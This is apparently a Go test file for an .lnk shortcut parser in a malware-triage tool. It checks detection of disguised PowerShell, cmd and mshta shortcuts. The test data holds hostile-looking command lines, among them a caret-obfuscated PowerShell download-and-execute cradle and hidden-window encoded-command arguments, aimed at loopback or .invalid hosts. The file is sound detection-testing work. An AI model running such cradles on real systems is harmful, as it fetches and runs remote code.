package lnk

import (
	"bytes"
	"encoding/binary"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"triage/parsers"
	"triage/parsers/filetype"
	"triage/parsers/parsertest"
)

func findingsByCode(rec *parsertest.Recorder) map[string]parsers.Finding {
	m := map[string]parsers.Finding{}
	for _, f := range rec.Findings {
		m[f.Code] = f
	}
	return m
}

func TestDetectGenerated(t *testing.T) {
	if got := filetype.Detect(invoiceLink().bytes(), invoiceName); got != filetype.LNK {
		t.Fatalf("generated link detected as %q", got)
	}
}

func TestInvoiceLink(t *testing.T) {
	data := invoiceLink().bytes()
	rec, err := parsertest.Run(t, New(), invoiceName, filetype.LNK, data)
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	wantCmd := invoicePS + " " + invoiceArgs()
	wantMeta := map[string]any{
		"local_base_path":    invoicePS,
		"env_target":         invoicePSEnv,
		"arguments":          invoiceArgs(),
		"arguments_length":   len(invoiceArgs()),
		"icon_location":      invoiceIcon,
		"icon_index":         int64(-102),
		"name":               "請求書",
		"show_command":       "minimized_noactive",
		"show_command_value": int64(7),
		"command_line":       wantCmd,
		"target":             invoicePS,
		"target_idlist_path": invoicePS,
		"machine_id":         "desktop-triage",
		"mac_address":        "02:00:5E:10:00:01",
		"drive_type":         "fixed",
		"drive_serial":       "0x1234abcd",
		"file_size":          int64(448000),
		"creation_time":      "2020-01-01T00:00:00Z",
	}
	for k, want := range wantMeta {
		if diff := cmp.Diff(want, rec.MetaData[k]); diff != "" {
			t.Errorf("meta %q (-want +got):\n%s", k, diff)
		}
	}
	for _, absent := range []string{"relative_path", "working_dir", "net_name", "hotkey", "appended_bytes"} {
		if v, ok := rec.MetaData[absent]; ok {
			t.Errorf("meta %q = %v, want absent", absent, v)
		}
	}
	flags, _ := rec.MetaData["link_flags"].([]string)
	for _, f := range []string{"HasLinkTargetIDList", "HasLinkInfo", "HasArguments", "IsUnicode", "HasExpString"} {
		if !slices.Contains(flags, f) {
			t.Errorf("link_flags %v lacks %s", flags, f)
		}
	}

	got := findingsByCode(rec)
	want := map[string]parsers.Severity{
		"lnk.lolbin":               parsers.High,
		"lnk.hidden_window":        parsers.Low,
		"lnk.suspicious_arguments": parsers.Medium,
		"lnk.icon_mismatch":        parsers.Low,
	}
	if len(got) != len(want) {
		t.Errorf("findings %v, want codes %v", rec.Findings, want)
	}
	for code, sev := range want {
		f, ok := got[code]
		if !ok {
			t.Errorf("no %s finding", code)
			continue
		}
		if f.Severity != sev || f.Campaign != "lnk" {
			t.Errorf("%s: severity %v campaign %q", code, f.Severity, f.Campaign)
		}
	}
	if f := got["lnk.lolbin"]; !slices.Equal(f.Attack, []string{"T1204.002", "T1059"}) || !strings.Contains(f.Detail, "powershell.exe") {
		t.Errorf("lolbin finding %+v", f)
	}
	for _, w := range []string{"hidden window", "encoded command", "no profile"} {
		if !strings.Contains(got["lnk.suspicious_arguments"].Detail, w) {
			t.Errorf("suspicious_arguments detail %q lacks %q", got["lnk.suspicious_arguments"].Detail, w)
		}
	}
	if d := got["lnk.icon_mismatch"].Detail; !strings.Contains(d, "imageres.dll icon -102") || !strings.Contains(d, ".pdf") {
		t.Errorf("icon_mismatch detail %q", d)
	}

	if len(rec.Children) != 1 {
		t.Fatalf("%d children, want 1", len(rec.Children))
	}
	c := rec.Children[0]
	if c.Name != "command_line" || c.Type != "text" || !c.Text || string(c.Data) != wantCmd {
		t.Errorf("child %+v", c)
	}
	if len(rec.URLs) != 0 {
		t.Errorf("URLs %v, want none", rec.URLs)
	}
}

func TestParseStruct(t *testing.T) {
	l, err := Parse(invoiceLink().bytes())
	if err != nil {
		t.Fatal(err)
	}
	if l.Header.ShowCommand != 7 || l.Header.IconIndex != -102 || l.Header.FileSize != 448000 {
		t.Errorf("header %+v", l.Header)
	}
	if !l.Header.CreationTime.Equal(time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("creation time %v", l.Header.CreationTime)
	}
	if l.LinkInfo == nil || l.LinkInfo.LocalPath() != invoicePS {
		t.Errorf("link info %+v", l.LinkInfo)
	}
	wantKinds := []string{"root", "volume", "file", "file", "file", "file", "file"}
	var kinds []string
	for _, it := range l.IDList {
		kinds = append(kinds, it.Kind)
	}
	if !slices.Equal(kinds, wantKinds) {
		t.Errorf("item kinds %v", kinds)
	}
	if l.IDList[6].ShortName != "POWERS~1.EXE" || l.IDList[6].Name != "powershell.exe" || l.IDList[6].IsDir {
		t.Errorf("last item %+v", l.IDList[6])
	}
	if got := l.Targets(); len(got) != 3 || got[1].Source != "env_target" || got[2].Source != "target_idlist" {
		t.Errorf("targets %+v", got)
	}
	if !l.Has(HasArguments) || l.Has(HasWorkingDir) {
		t.Errorf("present %v", l.Present.Names())
	}
}

func TestVariants(t *testing.T) {
	tests := []struct {
		name      string
		link      testLink
		fileName  string
		meta      map[string]any
		findings  []string // exact set of codes
		urls      []string
		wantError error
	}{
		{
			name: "benign_document_shortcut",
			link: testLink{
				linkInfo: &testLinkInfo{localBase: `C:\Users\taro\Documents\report.docx`, driveType: 3},
				relPath:  `..\Documents\report.docx`,
				workDir:  `C:\Users\taro\Documents`,
			},
			meta: map[string]any{
				"command_line": `C:\Users\taro\Documents\report.docx`,
				"show_command": "normal",
			},
		},
		{
			name: "ansi_strings_cp1252",
			link: testLink{
				ansi:     true,
				linkInfo: &testLinkInfo{localBase: `C:\Program Files\Café\app.exe`, driveType: 3},
				args:     "--naïve",
				workDir:  `C:\Program Files\Café`,
			},
			meta: map[string]any{
				"working_dir":  `C:\Program Files\Café`,
				"arguments":    "--naïve",
				"command_line": `"C:\Program Files\Café\app.exe" --naïve`,
			},
		},
		{
			name: "unicode_linkinfo_header",
			link: testLink{
				linkInfo: &testLinkInfo{localBase: `C:\Temp\`, suffix: `x.exe`, unicodeHeader: true, driveType: 2},
			},
			meta: map[string]any{
				"local_base_path":    `C:\Temp\`,
				"common_path_suffix": "x.exe",
				"target":             `C:\Temp\x.exe`,
				"drive_type":         "removable",
			},
		},
		{
			name: "network_share_cmd_with_url",
			link: testLink{
				linkInfo: &testLinkInfo{netName: `\\fileserver.invalid\share`, device: "Z:", suffix: `tools\cmd.exe`},
				args:     "/c start http://127.0.0.1:9/p.hta",
			},
			meta: map[string]any{
				"net_name":     `\\fileserver.invalid\share`,
				"device_name":  "Z:",
				"command_line": `\\fileserver.invalid\share\tools\cmd.exe /c start http://127.0.0.1:9/p.hta`,
			},
			findings: []string{"lnk.lolbin", "lnk.suspicious_arguments"},
			urls:     []string{"http://127.0.0.1:9/p.hta"},
		},
		{
			name: "relative_path_only_mshta_maximized",
			link: testLink{
				relPath:     `..\..\Windows\System32\mshta.exe`,
				args:        "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")",
				showCommand: ShowMaximized,
			},
			meta: map[string]any{
				"show_command":       "maximized",
				"show_command_value": int64(3),
			},
			findings: []string{"lnk.lolbin"},
		},
		{
			name: "caret_and_padding",
			link: testLink{
				envTarget: `%COMSPEC%`,
				relPath:   `cmd.exe`,
				args:      strings.Repeat(" ", 300) + "/c p^o^w^e^r^s^h^e^l^l -c \"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1:9/a')\"",
				icon:      `C:\Users\Public\invoice.pdf`,
			},
			fileName: "invoice.pdf.lnk",
			findings: []string{"lnk.lolbin", "lnk.suspicious_arguments", "lnk.icon_mismatch"},
			urls:     []string{"http://127.0.0.1:9/a"},
		},
		{
			name: "overlong_working_dir_hides_arguments",
			link: testLink{
				relPath: `.\cmd.exe`,
				workDir: `C:\Windows\System32` + strings.Repeat(" ", 241),
				args:    "/c calc",
				counts:  map[int]uint16{2: 1693},
			},
			meta: map[string]any{
				"arguments":   "/c calc",
				"working_dir": `C:\Windows\System32` + strings.Repeat(" ", 241),
			},
			findings: []string{"lnk.lolbin", "lnk.string_overrun"},
		},
		{
			name: "appended_payload",
			link: testLink{
				relPath:  `notes.txt`,
				trailing: []byte("MZ\x90\x00TRIAGE-REGRESSION"),
			},
			meta:     map[string]any{"appended_bytes": 21},
			findings: []string{"lnk.appended_data"},
		},
		{
			name: "hotkey_and_shim",
			link: testLink{
				hotKey:  0x0674, // CTRL+ALT+F5
				relPath: `a.exe`,
				blocks:  [][]byte{append(append(le32(0x88), le32(sigShim)...), fixedField(utf16z("WinXPSp3"), 0x80)...)},
			},
			meta: map[string]any{"hotkey": "CTRL+ALT+F5", "shim_layer": "WinXPSp3", "extra_blocks": []string{"shim"}},
		},
		{
			name: "property_store_sid_and_url",
			link: testLink{
				relPath: `a.exe`,
				blocks: [][]byte{propertyStoreBlock(sidFMTID, map[uint32]string{
					4: "S-1-5-21-1-2-3-1001",
					5: "see https://example.invalid/x",
				})},
			},
			meta: map[string]any{
				"owner_sid": "S-1-5-21-1-2-3-1001",
				"properties": []string{
					"{46588AE2-4CBC-4338-BBFC-139326986DCE}/4=S-1-5-21-1-2-3-1001",
					"{46588AE2-4CBC-4338-BBFC-139326986DCE}/5=see https://example.invalid/x",
				},
			},
			urls: []string{"https://example.invalid/x"},
		},
		{
			name: "vista_idlist_gives_the_path",
			link: testLink{
				args:   "/c calc",
				blocks: [][]byte{vistaIDListBlock(rootItem(myComputerGUID), volumeItem(`D:\`), fileItem("RUNDLL32.EXE", "rundll32.exe", false))},
			},
			meta: map[string]any{
				"target_idlist_path": `D:\rundll32.exe`,
				"command_line":       `D:\rundll32.exe /c calc`,
			},
			findings: []string{"lnk.lolbin"},
		},
		{
			name: "force_no_link_info",
			link: testLink{
				extraFlags: ForceNoLinkInfo,
				linkInfo:   &testLinkInfo{localBase: `C:\Windows\System32\cmd.exe`, driveType: 3},
				relPath:    `notes.txt`,
			},
			meta: map[string]any{
				"link_info_ignored": true,
				"target":            "notes.txt",
			},
		},
		{
			name:      "missing_terminal_block",
			link:      testLink{relPath: `a.exe`, noTerminal: true},
			findings:  []string{"lnk.malformed"},
			wantError: parsers.ErrMalformed,
		},
		{
			name: "unknown_block_skipped",
			link: testLink{
				relPath: `a.exe`,
				blocks:  [][]byte{append(append(le32(16), le32(0xA0000077)...), 1, 2, 3, 4, 5, 6, 7, 8), trackerBlock("after-unknown")},
			},
			meta: map[string]any{"machine_id": "after-unknown"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			name := tt.fileName
			if name == "" {
				name = tt.name + ".lnk"
			}
			rec, err := parsertest.Run(t, New(), name, filetype.LNK, tt.link.bytes())
			if tt.wantError == nil && err != nil || tt.wantError != nil && !errors.Is(err, tt.wantError) {
				t.Fatalf("err %v, want %v", err, tt.wantError)
			}
			for k, want := range tt.meta {
				if diff := cmp.Diff(want, rec.MetaData[k]); diff != "" {
					t.Errorf("meta %q (-want +got):\n%s", k, diff)
				}
			}
			var codes []string
			for _, f := range rec.Findings {
				codes = append(codes, f.Code)
			}
			slices.Sort(codes)
			want := slices.Clone(tt.findings)
			slices.Sort(want)
			if !slices.Equal(codes, want) {
				t.Errorf("findings %v, want %v (%+v)", codes, want, rec.Findings)
			}
			if !slices.Equal(rec.URLs, tt.urls) {
				t.Errorf("URLs %v, want %v", rec.URLs, tt.urls)
			}
			hasCmdChild := slices.ContainsFunc(rec.Children, func(c parsers.Child) bool { return c.Name == "command_line" })
			if hasCmdChild != (tt.link.args != "") {
				t.Errorf("command_line child %v with arguments %q", hasCmdChild, tt.link.args)
			}
		})
	}
}

func TestSuspiciousArguments(t *testing.T) {
	tests := []struct {
		args string
		want []string // substrings, in order
	}{
		{"-w hidden -nop -enc SQBFAFgAIAAoA", []string{"hidden window (-w hidden)", "encoded command (-enc)", "no profile (-nop)"}},
		{"-WindowStyle Hidden -e SQBFAFgAIAAoA", []string{"hidden window", "encoded command (-e)"}},
		{"-ExecutionPolicy Bypass -File x.ps1", []string{"execution policy bypass"}},
		{"-c [Convert]::FromBase64String($x)", []string{"FromBase64String"}},
		{"-c iex(gc x)", []string{"IEX"}},
		{"-c (New-Object Net.WebClient).DownloadFile('a','b')", []string{"DownloadFile"}},
		{"/c start https://example.invalid/", []string{"http(s) URL"}},
		{"/c ^st^art x", []string{"caret-split words (2 carets)"}},
		{"/c x" + strings.Repeat("\t", 261) + "y", []string{"white-space padding (261 characters)"}},
		// Near misses.
		{"/c echo ^<b^>", nil},
		{"/c x" + strings.Repeat(" ", 260) + "y", nil},
		{"-e short", nil},
		{"--width hidden-value", nil},
		{"no_ipcheck no_resize username=05551112233", nil},
		{"/vendor:youdao%20/P%20%22C:/Youdao/ShoppingAssistant/ie/4.4", nil},
	}
	for _, tt := range tests {
		got := SuspiciousArguments(tt.args)
		if len(got) != len(tt.want) {
			t.Errorf("%.60q: got %q, want %q", tt.args, got, tt.want)
			continue
		}
		for i := range got {
			if !strings.Contains(got[i], tt.want[i]) {
				t.Errorf("%.60q: reason %d %q lacks %q", tt.args, i, got[i], tt.want[i])
			}
		}
	}
}

func TestLOLBinAndIcons(t *testing.T) {
	for p, want := range map[string]string{
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`: "powershell.exe",
		`"%COMSPEC%"`:                      "",
		`%windir%\system32\cmd.exe`:        "cmd.exe",
		`..\..\Windows\System32\MSHTA.EXE`: "mshta.exe",
		`pwsh`:                             "pwsh",
		`C:\Tools\notcmd.exe`:              "",
		`C:\Users\x\report.pdf`:            "",
	} {
		if got := LOLBin(p); got != want {
			t.Errorf("LOLBin(%q) = %q, want %q", p, got, want)
		}
	}
	for _, tt := range []struct {
		loc  string
		idx  int32
		want bool
	}{
		{`%SystemRoot%\System32\imageres.dll`, -102, true},
		{`imageres.dll,-102`, 0, true},
		{`%SystemRoot%\System32\shell32.dll`, 1, true},
		{`shell32.dll,0`, 5, true},
		{`%SystemRoot%\System32\shell32.dll`, 3, false},
		{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, 1, true},
		{`C:\x\invoice.pdf`, 0, true},
		{`%SystemRoot%\system32\WindowsPowerShell\v1.0\powershell.exe`, 0, false},
		{``, 0, false},
	} {
		if _, got := DocumentIcon(tt.loc, tt.idx); got != tt.want {
			t.Errorf("DocumentIcon(%q, %d) = %v", tt.loc, tt.idx, got)
		}
	}
}

// TestTruncatedEveryOffset cuts the generated link at every offset: no
// panic, and each cut is reported as malformed.
func TestTruncatedEveryOffset(t *testing.T) {
	for _, tl := range []testLink{invoiceLink(), {ansi: true, linkInfo: &testLinkInfo{netName: `\\h.invalid\s`, device: "Z:", unicodeHeader: true}, workDir: "w", icon: "i"}} {
		data := tl.bytes()
		for i := range len(data) {
			rec, err := parsertest.Run(t, New(), invoiceName, filetype.LNK, data[:i])
			if !errors.Is(err, parsers.ErrMalformed) {
				t.Fatalf("cut at %d: err %v, want ErrMalformed", i, err)
			}
			if !rec.HasFinding("lnk.malformed") {
				t.Fatalf("cut at %d: no lnk.malformed finding", i)
			}
		}
	}
}

func TestHostileCounts(t *testing.T) {
	base := invoiceLink()
	tests := []struct {
		name  string
		data  func() []byte
		check func(t *testing.T, l *Link)
	}{
		{
			name: "arguments_count_overruns",
			data: func() []byte {
				tl := base
				tl.icon, tl.envTarget, tl.machineID = "", "", ""
				tl.counts = map[int]uint16{3: 0xFFFF}
				tl.noTerminal = true
				return tl.bytes()
			},
			check: func(t *testing.T, l *Link) {
				if l.Arguments != invoiceArgs() {
					t.Errorf("partial arguments %q", l.Arguments)
				}
			},
		},
		{
			name: "id_list_size_overruns",
			data: func() []byte {
				b := base.bytes()
				binary.LittleEndian.PutUint16(b[headerSize:], 0xFFFF)
				return b
			},
			check: func(t *testing.T, l *Link) {
				if len(l.IDList) != 7 || l.LinkInfo != nil {
					t.Errorf("%d items, link info %v", len(l.IDList), l.LinkInfo)
				}
			},
		},
		{
			name: "id_list_item_overruns",
			data: func() []byte {
				tl := base
				tl.idList = [][]byte{rootItem(myComputerGUID), {0x31, 0xff, 0xff}}
				b := tl.bytes()
				// Second item's size: past the list's end.
				binary.LittleEndian.PutUint16(b[headerSize+2+20:], 0x7000)
				return b
			},
			check: func(t *testing.T, l *Link) {
				if l.LinkInfo == nil || l.Arguments != invoiceArgs() {
					t.Error("parsing did not go on after a bad item inside a sized list")
				}
			},
		},
		{
			name: "link_info_size_ffffffff",
			data: func() []byte {
				tl := base
				tl.linkInfo = &testLinkInfo{localBase: invoicePS, driveType: 3, sizeOverride: 0xFFFFFFFF}
				return tl.bytes()
			},
			check: func(t *testing.T, l *Link) {
				if l.LinkInfo == nil || l.LinkInfo.LocalBasePath != invoicePS {
					t.Errorf("link info not salvaged: %+v", l.LinkInfo)
				}
				if l.Has(HasArguments) {
					t.Error("string data read after an untrustworthy LinkInfo")
				}
			},
		},
		{
			name: "link_info_offsets_outside",
			data: func() []byte {
				b := base.bytes()
				li := headerSize + 2 + int(binary.LittleEndian.Uint16(b[headerSize:]))
				binary.LittleEndian.PutUint32(b[li+12:], 0xFFFFFF00) // VolumeIDOffset
				binary.LittleEndian.PutUint32(b[li+16:], 0x7FFFFFFF) // LocalBasePathOffset
				return b
			},
			check: func(t *testing.T, l *Link) {
				if l.Arguments != invoiceArgs() || l.Extra.MachineID != "desktop-triage" {
					t.Error("parsing did not go on after bad offsets inside a sized LinkInfo")
				}
			},
		},
		{
			name: "extra_block_overruns",
			data: func() []byte {
				tl := base
				tl.machineID = ""
				tl.noTerminal = true
				tl.blocks = [][]byte{append(append(le32(0x7FFFFFFF), le32(sigTracker)...), []byte("\x58\x00\x00\x00\x00\x00\x00\x00evil-host")...)}
				return tl.bytes()
			},
			check: func(t *testing.T, l *Link) {
				if l.Extra.MachineID != "evil-host" || l.Extra.EnvTarget != invoicePSEnv {
					t.Errorf("extra %+v", l.Extra)
				}
			},
		},
		{
			name: "extra_block_size_below_header",
			data: func() []byte {
				tl := base
				tl.noTerminal = true
				tl.blocks = [][]byte{le32(5), {1, 2, 3, 4}}
				return tl.bytes()
			},
			check: func(t *testing.T, l *Link) {},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			data := tt.data()
			l, err := Parse(data)
			if !errors.Is(err, parsers.ErrMalformed) {
				t.Fatalf("err %v, want ErrMalformed", err)
			}
			if l == nil {
				t.Fatal("no partial result")
			}
			tt.check(t, l)
			rec, err2 := parsertest.Run(t, New(), "x.lnk", filetype.LNK, data)
			if !errors.Is(err2, parsers.ErrMalformed) || !rec.HasFinding("lnk.malformed") {
				t.Errorf("parser: err %v, findings %+v", err2, rec.Findings)
			}
			if !rec.HasFinding("lnk.lolbin") {
				t.Error("partial result lost the LOLBin target")
			}
		})
	}
}

// TestManyItems: an ID list holds at most 32766 items (its size is 16
// bits); the VistaAndAboveIDList block has a 32-bit size and can hold a
// million. Both walks stop at the entry limit and the parse goes on.
func TestManyItems(t *testing.T) {
	mainList := func(n int) testLink {
		tl := testLink{relPath: `cmd.exe`, args: "/c calc"}
		tl.idList = make([][]byte, n)
		for i := range tl.idList {
			tl.idList[i] = []byte{}
		}
		return tl
	}
	vista := func(n int) []byte {
		body := bytes.Repeat([]byte{2, 0}, n)
		body = append(body, 0, 0)
		return append(append(le32(uint32(8+len(body))), le32(sigVistaIDList)...), body...)
	}
	tests := []struct {
		name     string
		link     testLink
		limits   parsers.Limits
		wantMany bool
	}{
		{"main_list_32766_items", mainList(32766), parsers.DefaultLimits(), true},
		{"main_list_under_limit", mainList(500), parsers.DefaultLimits(), false},
		{"main_list_low_limit", mainList(500), parsers.Limits{MaxEntries: 100}, true},
		{"vista_list_million_items", testLink{relPath: `cmd.exe`, args: "/c calc", blocks: [][]byte{vista(1_000_000)}}, parsers.DefaultLimits(), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			start := time.Now()
			rec, err := parsertest.RunLimits(t, New(), "x.lnk", filetype.LNK, tt.link.bytes(), tt.limits)
			if elapsed := time.Since(start); elapsed > 2*time.Second {
				t.Errorf("took %v", elapsed)
			}
			if got := errors.Is(err, parsers.ErrTooMany); got != tt.wantMany {
				t.Fatalf("err %v, want ErrTooMany %v", err, tt.wantMany)
			}
			if errors.Is(err, parsers.ErrMalformed) {
				t.Errorf("err %v: a long list is not malformed", err)
			}
			if rec.MetaData["arguments"] != "/c calc" || !rec.HasFinding("lnk.lolbin") {
				t.Errorf("parse did not go on past the list: meta %v", rec.MetaData)
			}
			limit := tt.limits.WithDefaults().MaxEntries
			if n, _ := rec.MetaData["target_idlist_items"].(int); n > limit {
				t.Errorf("%d items kept, limit %d", n, limit)
			}
		})
	}
}

func TestNotALink(t *testing.T) {
	for _, data := range [][]byte{nil, []byte("L\x00\x00\x00"), bytes.Repeat([]byte{0x4c}, 100)} {
		rec, err := parsertest.Run(t, New(), "x.lnk", filetype.LNK, data)
		if !errors.Is(err, parsers.ErrMalformed) || !rec.HasFinding("lnk.malformed") || len(rec.MetaData) != 0 {
			t.Errorf("%q: err %v findings %v meta %v", data, err, rec.Findings, rec.MetaData)
		}
		if l, _ := Parse(data); l != nil {
			t.Errorf("%q: Parse returned a link", data)
		}
	}
}

func TestMatch(t *testing.T) {
	p := New()
	if !p.Match(&parsers.Artifact{Type: filetype.LNK}, nil) || p.Match(&parsers.Artifact{Type: filetype.Binary}, nil) || p.Match(nil, nil) {
		t.Error("Match")
	}
	if p.Name() != Name || Name != "lnk" {
		t.Error("Name")
	}
}
